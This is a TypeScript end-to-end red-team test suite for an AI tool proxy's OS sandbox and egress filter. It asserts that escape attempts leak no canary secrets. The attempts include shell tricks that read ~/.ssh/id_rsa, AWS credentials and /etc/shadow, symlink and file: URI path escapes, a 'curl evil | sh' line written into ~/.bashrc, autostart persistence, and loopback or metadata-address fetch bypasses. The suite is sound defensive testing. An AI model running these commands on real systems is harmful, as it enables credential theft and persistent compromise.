/**
 * Red-team e2e for the OS sandbox (bubblewrap) through the real `agentperms proxy` CLI in enforce mode, in
 * front of the Python fixture server. Every policy here makes the JSON-RPC layer ALLOW (forward) the call,
 * and each attempt asserts that it did, so the only thing between the server and the canary secrets of a
 * temporary home is the sandbox: the file view (private home and /tmp, binds, masks), the scrubbed
 * environment, the PID namespace, and the egress proxy that judges every connection (names, ports and the
 * addresses they resolve to, via AGENTPERMS_EGRESS_HOSTS) with `decide()`.
 *
 * No attempt may get a single canary byte to the client, and every attempt must be in the trace (its call
 * event, forwarded; for traffic through the egress proxy also its `egress` containment event). Positive
 * controls (a readable and a writable file, an allowed host) keep the tests from passing on a sandbox that
 * blocks everything. All network traffic targets loopback only.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import type { TraceEventV1 } from "../../src/trace/mod.ts";
import { connect, type PlanClient, proxyPlan, traceEventsIn } from "./_helpers.ts";

const PY_SERVER = new URL("../fixtures/servers/py_server.py", import.meta.url).pathname;
const TOOLS = "[run, read_file, write_file, fetch, connect]";
const BLOCKED_REGEXP = /AgentPerms blocked this call/;
const CANARY_REGEXP = /CANARY/;

/** A temporary root with a canary home and a workspace; dispose removes it. */
interface EscapeFixture extends AsyncDisposable {
  root: string;
  home: string;
  work: string;
  traces: string;
}

async function makeEscapeFixture(opts: { bashrc: boolean }): Promise<EscapeFixture> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "ap-escape-" }));
  const home = join(root, "home");
  const work = join(root, "work");
  await Deno.mkdir(join(home, ".ssh"), { recursive: true });
  await Deno.mkdir(join(home, ".aws"), { recursive: true });
  await Deno.mkdir(work);
  await Deno.writeTextFile(join(home, ".ssh/id_rsa"), "CANARY-SSH-7f3a\n");
  await Deno.writeTextFile(join(home, ".aws/credentials"), "[default]\nsecret = CANARY-AWS-91c2\n");
  if (opts.bashrc) await Deno.writeTextFile(join(home, ".bashrc"), "# CANARY-BASHRC-5d0e\n");
  await Deno.writeTextFile(join(work, ".env"), "TOKEN=CANARY-ENV-2b8d\n");
  await Deno.writeTextFile(join(work, "allowed.txt"), "ALLOWED-CONTENT");
  return {
    root,
    home,
    work,
    traces: join(root, "traces"),
    async [Symbol.asyncDispose]() {
      await Deno.remove(root, { recursive: true });
    },
  };
}

/** Starts the real proxy (enforce, OS sandbox) in front of the Python server, in the workspace. */
async function startProxy(
  fx: EscapeFixture,
  policyYaml: string,
  env: Record<string, string> = {},
  traceDir = fx.traces,
  policy = join(fx.root, "policy.yaml"),
): Promise<PlanClient> {
  await Deno.writeTextFile(policy, policyYaml);
  const realHome = Deno.env.get("HOME") ?? "/root";
  const plan = proxyPlan({
    mode: "enforce",
    server: "sh",
    policy,
    traceDir,
    env: {
      HOME: fx.home,
      DENO_DIR: Deno.env.get("DENO_DIR") ?? join(realHome, ".cache/deno"),
      // A secret of the proxy's own environment, never named by --server-env: the server must not see it.
      AP_TEST_SECRET: "CANARY-ENVVAR-44e1",
      ...env,
    },
  }, ["python3", PY_SERVER]);
  return await connect({ ...plan, cwd: fx.work });
}

/** One escape attempt: its call, what came back, and the arguments that find it in the trace. */
interface Attempt {
  label: string;
  tool: string;
  args: Record<string, unknown>;
  text: string;
  isError: boolean;
}

/**
 * The attempts of one test and what went wrong with them. Checks are collected rather than thrown, so one run
 * names every escape (a broken sandbox fails every attempt, not only the first); `assertNoFindings` ends the
 * test. Positive controls use plain assertions: a sandbox that blocks everything stops the test at once.
 */
class Findings {
  readonly log: Attempt[] = [];
  readonly failures: string[] = [];

  /** Runs one check; a failure is recorded under the label. */
  soft(label: string, check: () => void): void {
    try {
      check();
    } catch (e) {
      this.failures.push(`${label}: ${(e as Error).message}`);
    }
  }

  /**
   * Calls a tool: the JSON-RPC layer must forward it, no canary byte may come back, and the result must match
   * `expect` (how the sandbox refused).
   */
  async attempt(
    c: PlanClient,
    label: string,
    tool: string,
    args: Record<string, unknown>,
    expect?: RegExp,
  ): Promise<Attempt> {
    const r = await c.text(tool, args);
    const a = { label, tool, args, ...r };
    this.log.push(a);
    this.soft(label, () => assert.doesNotMatch(r.text, BLOCKED_REGEXP, "the JSON-RPC layer must forward it"));
    this.soft(label, () => assert.doesNotMatch(r.text, CANARY_REGEXP, `LEAK: ${JSON.stringify(r.text)}`));
    if (expect) {
      this.soft(label, () => assert.match(r.text, expect, `refused otherwise: ${JSON.stringify(r.text)}`));
    }
    return a;
  }

  /** Every attempt (from the `from`th on) has a call event in the trace (same tool and arguments), forwarded. */
  traced(events: TraceEventV1[], from = 0): void {
    const calls = events.filter((e) => e.kind === "call" && e.method === "tools/call");
    for (const a of this.log.slice(from)) {
      this.soft(a.label, () => {
        const ev = calls.find((e) => e.tool === a.tool && isDeepEqual(e.arguments, a.args));
        assert.ok(ev, "no call event in the trace");
        assert.equal(ev.forwarded, true, "the trace says the call was not forwarded");
        assert.equal(ev.decision?.verdict, "allow", ev.decision?.reason);
      });
    }
  }

  /** Fails the test with every finding. */
  assertNone(): void {
    assert.deepEqual(this.failures, [], `escapes or unexpected results:\n${this.failures.join("\n")}`);
  }
}

function isDeepEqual(x: unknown, y: unknown): boolean {
  try {
    assert.deepEqual(x, y);
    return true;
  } catch {
    return false;
  }
}

/** The JSON-RPC layer has no path rules (it forwards any path); the sandbox shows the workspace only. */
function sandboxOnlyPolicy(work: string): string {
  return `version: 1
servers:
  sh:
    allowed_tools: ${TOOLS}
    sandbox: { read: [${work}], write: [${work}] }
`;
}

Deno.test("OS sandbox: file, process and environment escapes the JSON-RPC layer forwards get no canary byte", async () => {
  await using fx = await makeEscapeFixture({ bashrc: true });
  const { home, work } = fx;
  // Planted before the server starts: a two-hop chain to the key, a link to the home, a link to ~/.bashrc.
  await Deno.symlink(join(home, ".ssh/id_rsa"), join(work, "hop2"));
  await Deno.symlink(join(work, "hop2"), join(work, "hop1"));
  await Deno.symlink(home, join(work, "link_to_home_dir"));
  await Deno.symlink(join(home, ".bashrc"), join(work, "rc_existing"));
  // A folder named like a URL query, so `x?/../..` resolves on disk (the hand-stripped file: reading).
  await Deno.mkdir(join(work, "x?"));
  const bashrcBefore = await Deno.readTextFile(join(home, ".bashrc"));
  const f = new Findings();
  const ENOENT = /No such file or directory|FileNotFoundError/;
  {
    await using c = await startProxy(fx, sandboxOnlyPolicy(work));
    const run = (label: string, command: string, expect?: RegExp) =>
      f.attempt(c, label, "run", { command }, expect);

    // Positive controls: the workspace is readable and writable.
    const ok = await f.attempt(c, "control: read_file allowed.txt", "read_file", {
      path: join(work, "allowed.txt"),
    });
    assert.deepEqual({ text: ok.text, isError: ok.isError }, { text: "ALLOWED-CONTENT", isError: false });
    assert.match((await run("control: cat allowed.txt", `cat ${work}/allowed.txt`)).text, /ALLOWED-CONTENT/);
    const w = await f.attempt(c, "control: write_file into the workspace", "write_file", {
      path: join(work, "written.txt"),
      content: "WRITTEN",
    });
    assert.equal(w.isError, false, w.text);
    assert.equal(await Deno.readTextFile(join(work, "written.txt")), "WRITTEN");

    // 1. ~/.ssh/id_rsa through $() and ${x} tricks: the home is a private, empty tmpfs (ENOENT).
    for (
      const cmd of ["cat ~/.s$()sh/id_rsa", "d=.ssh; cat $HOME/$d/id_rsa", "cat ${HOME}/.s${x}sh/id_rsa"]
    ) {
      await run(`1: ${cmd}`, cmd, /^exit 1\n[^]*No such file or directory/);
    }

    // 2. The home's secrets by a relative path, the AWS credentials (ENOENT); the workspace's .env (masked
    //    with /dev/null on a nodev mount: EACCES).
    await run("2: cd ~ && cat .ssh/id_rsa", "cd ~ && cat .ssh/id_rsa", ENOENT);
    await run("2: cat ~/.aws/credentials", "cat ~/.aws/credentials", ENOENT);
    await run("2: cat <work>/.env", `cat ${work}/.env`, /Permission denied/);
    await f.attempt(
      c,
      "2: read_file <work>/.env",
      "read_file",
      { path: join(work, ".env") },
      /PermissionError/,
    );

    // 3. file: URI differentials: a URL parser's reading stays in the workspace; the hand-stripped one (query
    //    kept in the name, and `x?` exists) and url2pathname's (%3F decoded after parsing) climb to the home.
    const viaQuery = `file://${work}/x?/../../home/.ssh/id_rsa`;
    await run(
      "3: file: URI stripped by hand",
      `python3 -c 'import sys; print(open(sys.argv[1][len("file://"):]).read())' '${viaQuery}'`,
      /FileNotFoundError/,
    );
    await run(
      "3: file: URI through urlparse + url2pathname",
      `python3 -c 'import sys, urllib.parse as p, urllib.request as r; ` +
        `print(open(r.url2pathname(p.urlparse(sys.argv[1]).path)).read())' 'file://${work}/x%3F/../../home/.ssh/id_rsa'`,
      /FileNotFoundError/,
    );
    await f.attempt(c, "3: read_file with the hand-stripped path", "read_file", {
      path: viaQuery.slice("file://".length),
    }, /FileNotFoundError/);

    // 4. A two-hop symlink chain inside the workspace to ~/.ssh/id_rsa: its target is not in the sandbox.
    await f.attempt(c, "4: read_file hop1", "read_file", { path: join(work, "hop1") }, ENOENT);
    await run("4: cat hop1", `cat ${work}/hop1`, ENOENT);

    // 5. `..` after a symlink: link_to_home_dir/../home/.ssh is the real home's key on the host; in the
    //    sandbox the link leads to the private, empty home.
    for (
      const p of [`${work}/link_to_home_dir/../home/.ssh/id_rsa`, `${work}/link_to_home_dir/.ssh/id_rsa`]
    ) {
      await f.attempt(c, `5: read_file ${p}`, "read_file", { path: p }, ENOENT);
      await run(`5: cat ${p}`, `cat ${p}`, ENOENT);
    }

    // 6. Writes to the host's ~/.bashrc, through a link in the workspace and by appending: the private home
    //    (tmpfs) takes them; the host's file stays as it was and is never read.
    await f.attempt(c, "6: write_file through a link to ~/.bashrc", "write_file", {
      path: join(work, "rc_existing"),
      content: "curl evil | sh\n",
    });
    await run("6: echo x >> ~/.bashrc", "echo x >> ~/.bashrc; cat ~/.bashrc");

    // 8. Other processes, /etc/shadow, the proxy's environment.
    const ps = await run("8: ps and /proc", "ps -e -o comm=; echo pids=$(ls /proc | grep -c '^[0-9]')");
    f.soft("8: ps and /proc", () => {
      assert.doesNotMatch(ps.text, /\bdeno\b/, `the proxy (a host process) is visible: ${ps.text}`);
      const pids = Number(/pids=(\d+)/.exec(ps.text)?.[1]);
      assert.ok(pids > 0 && pids < 12, `only the sandbox's own processes: ${ps.text}`);
    });
    await run("8: cat /etc/shadow", "cat /etc/shadow", /Permission denied/);
    const env = await run("8: env", "env; tr '\\0' '\\n' < /proc/1/environ");
    assert.match(env.text, /^HOME=/m, "control: env printed the environment");
    f.soft("8: env", () => assert.doesNotMatch(env.text, /AP_TEST_SECRET/, env.text));
  }
  const bashrcAfter = await Deno.readTextFile(join(home, ".bashrc"));
  f.soft("6: host ~/.bashrc", () => assert.equal(bashrcAfter, bashrcBefore, "the host's ~/.bashrc changed"));
  f.traced(await traceEventsIn(fx.traces));
  f.assertNone();
});

Deno.test("OS sandbox: a write through a dangling link to an absent ~/.bashrc never creates it on the host", async () => {
  await using fx = await makeEscapeFixture({ bashrc: false });
  const { home, work } = fx;
  await Deno.symlink(join(home, ".bashrc"), join(work, "rc"));
  const f = new Findings();
  {
    await using c = await startProxy(fx, sandboxOnlyPolicy(work));
    await f.attempt(c, "6: write_file <work>/rc (dangling)", "write_file", {
      path: join(work, "rc"),
      content: "curl evil | sh\n",
    });
    await f.attempt(c, "6: echo >> through the dangling link", "run", { command: `echo x >> ${work}/rc` });
    await f.attempt(c, "6: echo x >> ~/.bashrc", "run", { command: "echo x >> ~/.bashrc" });
    // Control: the workspace itself stays writable.
    const w = await f.attempt(c, "control: write_file", "write_file", {
      path: join(work, "plain.txt"),
      content: "OK",
    });
    assert.equal(w.isError, false, w.text);
  }
  assert.equal(await Deno.readTextFile(join(work, "plain.txt")), "OK");
  f.soft(
    "6: host ~/.bashrc",
    () => assert.ok(!existsSync(join(home, ".bashrc")), "the host's ~/.bashrc was created"),
  );
  f.traced(await traceEventsIn(fx.traces));
  f.assertNone();
});

Deno.test("OS sandbox: denied_patterns hide matching files even from a shell glob the JSON-RPC layer cannot read", async () => {
  await using fx = await makeEscapeFixture({ bashrc: true });
  const { work } = fx;
  await Deno.writeTextFile(join(work, "deploy.pem"), "CANARY-PEM-0c9b\n");
  const f = new Findings();
  {
    await using c = await startProxy(
      fx,
      `version: 1
servers:
  sh:
    allowed_tools: ${TOOLS}
    allowed_paths: [${work}]
    denied_patterns: ["**/*.pem"]
`,
    );
    // Control: the pattern does deny the literal name at the JSON-RPC layer.
    const direct = await c.text("read_file", { path: join(work, "deploy.pem") });
    assert.match(direct.text, BLOCKED_REGEXP, direct.text);
    // The shell expands the glob inside the sandbox, out of the JSON-RPC layer's sight: deny must win there too.
    await f.attempt(c, "9: cat <work>/deploy.*", "run", { command: `cat ${work}/deploy.*` });
  }
  f.traced(await traceEventsIn(fx.traces));
  f.assertNone();
});

Deno.test("OS sandbox: the egress proxy refuses loopback and metadata addresses, whatever the name", async () => {
  await using fx = await makeEscapeFixture({ bashrc: true });
  const { root, work } = fx;
  // Two loopback HTTP servers: one holds a canary (never reachable), one is the positive control.
  let canaryHits = 0;
  const ac = new AbortController();
  const serve = (body: () => string) =>
    Deno.serve(
      { hostname: "127.0.0.1", port: 0, signal: ac.signal, onListen: () => {} },
      () => new Response(body()),
    );
  const canary = serve(() => {
    canaryHits++;
    return "CANARY-NET-a1b2\n";
  });
  const control = serve(() => "PUBLIC-OK\n");
  const A = canary.addr.port;
  const B = control.addr.port;
  // A raw TCP listener that greets with a canary line: a connect that reached it would read it at once.
  const banner = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const T = banner.addr.port;
  const greeting = (async () => {
    for await (const conn of banner) {
      canaryHits++;
      await conn.write(new TextEncoder().encode("CANARY-TCP-9e7f\n")).catch(() => {});
      conn.close();
    }
  })();
  // metadata.test answers with loopback first, then the metadata address: a broken judge would dial
  // 127.0.0.1 (the canary), never 169.254.169.254, so every byte stays on loopback.
  const hosts = join(root, "hosts");
  await Deno.writeTextFile(
    hosts,
    "127.0.0.1 metadata.test loopy.test ok.test\n169.254.169.254 metadata.test\n",
  );
  const f = new Findings();
  const REFUSED = /HTTP Error 403/;
  /** One proxy session with these allowed_hosts; returns the egress events of its trace by value. */
  const session = async (name: string, hostsYaml: string, body: (c: PlanClient) => Promise<void>) => {
    const traces = join(root, `traces-${name}`);
    const from = f.log.length;
    {
      await using c = await startProxy(
        fx,
        `version: 1
servers:
  sh:
    allowed_tools: ${TOOLS}
    allowed_paths: [${work}]
    allowed_hosts: ${hostsYaml}
`,
        { AGENTPERMS_EGRESS_HOSTS: hosts },
        traces,
      );
      await body(c);
    }
    const events = await traceEventsIn(traces);
    f.traced(events, from);
    return (value: string) =>
      events.filter((e) => e.kind === "containment" && e.source === "egress" && e.value === value);
  };
  const egressEvent = (
    events: (v: string) => TraceEventV1[],
    value: string,
    verdict: "allow" | "deny",
    rules: string[],
  ) =>
    f.soft(`egress event ${value}`, () => {
      const evs = events(value);
      assert.equal(evs.length, 1, `one egress event (${JSON.stringify(evs)})`);
      assert.equal(evs[0]!.decision?.verdict, verdict);
      assert.ok(evs[0]!.decision?.ruleIds.some((r) => rules.includes(r)), JSON.stringify(evs[0]!.decision));
    });
  try {
    // Session 1: allowed_hosts lets the server reach "*" (and "*.test"): the JSON-RPC layer forwards every
    // URL, and the egress proxy still refuses every loopback and metadata address behind them.
    const any = await session("any", `["*.test", "*"]`, async (c) => {
      // 7. The host's loopback by address and by names that resolve to it, through the egress proxy: 403.
      for (const h of ["127.0.0.1", "localhost", "loopy.test", "metadata.test"]) {
        await f.attempt(c, `7: fetch ${h}`, "fetch", { url: `http://${h}:${A}/` }, REFUSED);
      }
      // ...and around it: raw TCP and curl without the proxy stay in the sandbox's own network namespace.
      await f.attempt(
        c,
        "7: connect 127.0.0.1",
        "connect",
        { host: "127.0.0.1", port: T },
        /ConnectionRefusedError/,
      );
      await f.attempt(c, "7: curl --noproxy", "run", {
        command: `curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${A}/`,
      }, /^exit 7\n/);
      await f.attempt(c, "7: curl an IPv4-mapped address", "run", {
        command: `curl -sS --max-time 5 http://[::ffff:127.0.0.1]:${A}/`,
      }, /AgentPerms egress/);
    });
    for (const h of ["127.0.0.1", "localhost", "loopy.test", "[::ffff:7f00:1]"]) {
      egressEvent(any, `${h}:${A}`, "deny", ["sandbox/net-private-address"]);
    }
    // Either rule is right here: metadata.test answers loopback first, which an unscoped grant refuses.
    egressEvent(any, `metadata.test:${A}`, "deny", ["guard/metadata-host", "sandbox/net-private-address"]);

    // Session 2: exact grants. A name granted exactly may reach a local address (the positive control), but
    // never a metadata one, and a wildcard grant never a local one.
    const exact = await session("exact", `["ok.test:${B}", "metadata.test", "*.test"]`, async (c) => {
      // (Recorded, not thrown, so a broken sandbox still reports session 1's leaks.)
      const ok = await f.attempt(c, "control: fetch ok.test", "fetch", { url: `http://ok.test:${B}/` });
      f.soft("control: fetch ok.test", () => assert.equal(ok.text, "status 200\nPUBLIC-OK\n"));
      await f.attempt(c, "7: fetch metadata.test (exact grant)", "fetch", {
        url: `http://metadata.test:${A}/`,
      }, REFUSED);
      await f.attempt(
        c,
        "7: fetch loopy.test (wildcard grant)",
        "fetch",
        { url: `http://loopy.test:${A}/` },
        REFUSED,
      );
    });
    egressEvent(exact, `ok.test:${B}`, "allow", ["servers.sh.allowed_hosts[0]"]);
    egressEvent(exact, `metadata.test:${A}`, "deny", ["guard/metadata-host"]);
    egressEvent(exact, `loopy.test:${A}`, "deny", ["sandbox/net-private-address"]);
    f.soft("7: canary server", () => assert.equal(canaryHits, 0, "the canary server was reached"));
  } finally {
    ac.abort();
    banner.close();
    await Promise.all([canary.finished, control.finished, greeting]);
  }
  f.assertNone();
});

// Found by the security review of the OS sandbox; each failed before its fix.
Deno.test("OS sandbox: a home-wide grant never makes the home writable; the policy stays read-only; nested secrets stay hidden", async () => {
  await using fx = await makeEscapeFixture({ bashrc: true });
  const { home, work } = fx;
  await Deno.mkdir(join(home, "code/app/config"), { recursive: true });
  await Deno.writeTextFile(join(home, "code/app/.env"), "CANARY-NESTED-ENV-1\n");
  await Deno.writeTextFile(join(home, "code/app/config/.env.production"), "CANARY-NESTED-ENV-2\n");
  await Deno.mkdir(join(home, "Downloads"));
  await Deno.writeTextFile(join(home, "Downloads/client.pem"), "CANARY-PEM-HOME\n");
  const bashrcBefore = await Deno.readTextFile(join(home, ".bashrc"));
  const f = new Findings();
  {
    // Every tool allowed, the whole home allowed (a glob), *.pem denied: the JSON-RPC layer forwards shell
    // tricks it cannot read, so only the sandbox decides.
    await using c = await startProxy(
      fx,
      `version: 1\nservers:\n  sh:\n    allowed_paths: ["${home}/**", "${work}"]\n    denied_patterns: ["*.pem"]\n`,
    );
    const run = (label: string, command: string) => f.attempt(c, label, "run", { command });
    await run("append to ~/.bashrc", `echo 'echo PWNED' >> $HOME/.bashrc`);
    await run(
      "autostart entry",
      `mkdir -p $HOME/.config/autostart && echo x > $HOME/.config/autostart/evil.desktop`,
    );
    await run(
      "nested .env files in the home",
      `cat $HOME/code/app/.env $HOME/code/app/config/.env.production`,
    );
    await run("a denied pattern through a glob", `cat $HOME/Downloads/client.p?m`);
  }
  {
    // The policy inside the folder the server may write: it still cannot rewrite its own rules.
    const inWork = join(work, "mcp.policy.yaml");
    await using c = await startProxy(
      fx,
      `version: 1\nservers:\n  sh:\n    allowed_paths: ["${work}"]\n`,
      {},
      fx.traces,
      inWork,
    );
    await f.attempt(c, "rewrite the policy", "write_file", { path: inWork, content: "version: 1\n" });
  }
  f.soft(
    "~/.bashrc unchanged",
    () => assert.equal(Deno.readTextFileSync(join(home, ".bashrc")), bashrcBefore),
  );
  f.soft("no autostart entry", () => assert.ok(!existsSync(join(home, ".config/autostart/evil.desktop"))));
  f.soft(
    "policy unchanged",
    () => assert.match(Deno.readTextFileSync(join(work, "mcp.policy.yaml")), /allowed_paths/),
  );
  f.traced(await traceEventsIn(fx.traces));
  f.assertNone();
});

Deno.test("OS sandbox: filling a folder past the walk's budget hides what was not walked instead of showing it", async () => {
  await using fx = await makeEscapeFixture({ bashrc: false });
  const data = join(fx.work, "data");
  await Deno.mkdir(join(data, "zzz"), { recursive: true });
  await Deno.writeTextFile(join(data, "zzz/key.pem"), "CANARY-PEM-PAST-BUDGET\n");
  const policy =
    `version: 1\nservers:\n  sh:\n    allowed_tools: ${TOOLS}\n    denied_patterns: ["*.pem"]\n` +
    `    sandbox: { read: [${fx.work}], write: [${fx.work}] }\n`;
  {
    // Session 1: the server fills a folder it can write with more entries than the walk looks at.
    await using c = await startProxy(fx, policy);
    const r = await c.text("run", {
      command: `mkdir ${data}/aaa && cd ${data}/aaa && seq 1 20050 | xargs touch`,
    });
    assert.equal(r.isError, false, r.text);
  }
  const f = new Findings();
  {
    // Session 2: the walk runs out of budget in aaa; zzz, not reached, is hidden whole.
    await using c = await startProxy(fx, policy);
    await f.attempt(c, "a denied pattern past the budget", "run", { command: `cat ${data}/zzz/key.p?m` });
  }
  f.assertNone();
});
